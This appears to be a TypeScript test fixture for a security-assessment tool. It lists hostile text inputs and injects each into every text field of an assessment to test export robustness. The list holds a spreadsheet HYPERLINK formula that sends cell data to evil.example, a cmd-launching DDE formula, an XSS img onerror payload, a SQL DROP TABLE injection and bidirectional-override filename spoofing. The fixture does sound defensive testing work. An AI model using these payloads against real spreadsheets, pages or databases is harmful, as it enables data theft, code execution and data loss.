import { Assessment } from '../../../src/domain/assessment.ts';

/** Texts that have broken somebody's export before, each with a name. */
export const HOSTILE_TEXTS: readonly (readonly [name: string, text: string])[] = [
  ['empty', ''],
  ['white space', ' \t \u00A0\u3000'],
  ['several lines', 'first\r\nsecond\n\nthird\u2028fourth\u2029'],
  ['bidirectional', 'user\u202Egnp.exe\u2066 \u200Bzero\uFEFF'],
  ['control characters', 'nul\u0000 bell\u0007 escape\u001B[31m del\u007F c1\u0085'],
  ['formula', '=HYPERLINK("http://evil.example/?"&A1,"click")'],
  ['formula after white space', "\t @SUM(1+1)*cmd|' /C calc'!A0"],
  ['Markdown and HTML', '# [x](javascript:alert(1)) <img src=x onerror=alert(1)> {{ insert: param, p }} `code` **b** &lt;'],
  ['XML and Excel escapes', ']]> &amp; <c t="s"><v>1</v></c> _x000D_ _x005F_x0041_ "quoted"'],
  ['braces and quotes', '{0} {"a": "b"} \\" \\u0022 \'; DROP TABLE "events"'],
  ['lone surrogates', 'high \uD800 low \uDC00 last \uD83D'],
  ['noncharacters', '\uFFFE\uFFFF\u{1FFFE} 😀 漢字 é'],
  ['10,000 characters', '😀=+\n<'.repeat(1_667)],
];

/**
 * The assessment with a text in every place where evidence, the guide or a person can put text; ids that are names of our own
 * files stay. Throws when that is no valid assessment any more.
 */
export function withText(original: Assessment, text: string): Assessment {
  const assessment = structuredClone(original);
  const { organisation } = assessment;
  organisation.organisation = text;
  Object.assign(organisation.deployment, { title: text, description: text });
  organisation.scope.hosts = [text];
  for (const section of assessment.sections) Object.assign(section, { title: text, summary: text });
  for (const file of assessment.evidence) {
    const facts = Object.fromEntries([[text, 1]]);
    Object.assign(file, { path: text, format: text, formatTitle: text, origin: text, problem: text, notes: [text, text], facts });
  }
  for (const finding of assessment.findings) {
    Object.assign(finding.control, { title: text.slice(0, 70), requirement: text });
    Object.assign(finding, { reason: text, section: text, subsection: { id: text, title: text } });
    for (const verdict of finding.verdicts) {
      Object.assign(verdict.check, { title: text, why: text, remedy: text, reads: [text] });
      verdict.reason = text;
      if (verdict.query !== null) verdict.query = { ...verdict.query, sql: text, parameters: Object.fromEntries([[text, 1]]) };
      for (const observation of verdict.observations) {
        Object.assign(observation, { subject: text, reason: text, remedy: text });
        for (const pointer of observation.pointers) pointer.at = text;
      }
    }
  }
  for (const log of assessment.logs)
    Object.assign(log, { path: text, source: text, notes: [text], rejects: [{ at: text, reason: text }] });
  // A deviation must have words in it.
  const words = text.trim() === '' ? `(${text})` : text;
  for (const deviation of assessment.deviations) {
    Object.assign(deviation, {
      subject: words,
      reason: words,
      compensating: words,
      approvedBy: words,
      subjects: [text],
      note: text,
    });
  }
  for (const record of assessment.attestations) Object.assign(record, { subject: text, by: text, statement: text });
  for (const vulnerability of assessment.vulnerabilities) {
    Object.assign(vulnerability, { id: text, artifact: text, package: text, installed: text, fixed: text, title: text });
    Object.assign(vulnerability, { cwes: [text], owasp: [text], from: { ...vulnerability.from, at: text } });
    if (vulnerability.suppressed !== null) vulnerability.suppressed = text;
  }
  for (const framework of assessment.frameworks) {
    Object.assign(framework, { id: text, title: text, edition: text });
    for (const clause of framework.clauses) clause.id = text;
  }
  return Assessment.parse(assessment);
}
